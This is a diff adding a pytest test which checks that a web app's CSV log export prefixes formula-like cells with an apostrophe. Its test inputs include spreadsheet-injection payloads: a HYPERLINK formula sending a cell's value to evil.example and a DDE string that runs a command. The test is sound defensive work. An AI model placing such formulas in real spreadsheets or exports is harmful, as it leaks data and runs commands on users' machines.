@@ -258,6 +258,37 @@ def test_csv_export_has_every_matching_row(page):
     assert everything[0].startswith("time,app,cycle_id") and len(everything) == 1 + 5 + 120
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tx",
+        "\r=1",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_evaluate_are_made_text(page, text):
+    """Names, ids and messages come from the directory and the apps: a cell that starts like a
+    formula is exported with a leading apostrophe, everything else as it is."""
+    client, host = page
+    store = StateStore(host.state_url)
+    store.start_cycle("wiki", "c3")
+    row = {"object_type": "user", "action": "update", "status": "failure", "source_id": text}
+    store.add_log_rows(
+        "wiki",
+        "c3",
+        [{**row, "source_display": text, "target_id": text, "error_code": "400", "error_message": text}],
+    )
+    table = list(csv.DictReader(io.StringIO(client.get("/api/log.csv", params={"app": "wiki"}).text)))
+    hostile = next(r for r in table if r["cycle_id"] == "c3")
+    for column in ("source_id", "source_display", "target_id", "error_message"):
+        assert hostile[column] == f"'{text}", column
+    assert hostile["error_code"] == "400" and hostile["action"] == "update"
+    assert {r["source_display"] for r in table if r["cycle_id"] == "c1"} >= {"ann@contoso.example"}
+
+
 def test_the_chart_sums_each_cycles_actions_per_status(page):
     client, _ = page
     bars = client.get("/api/cycles", params={"app": "wiki"}).json()
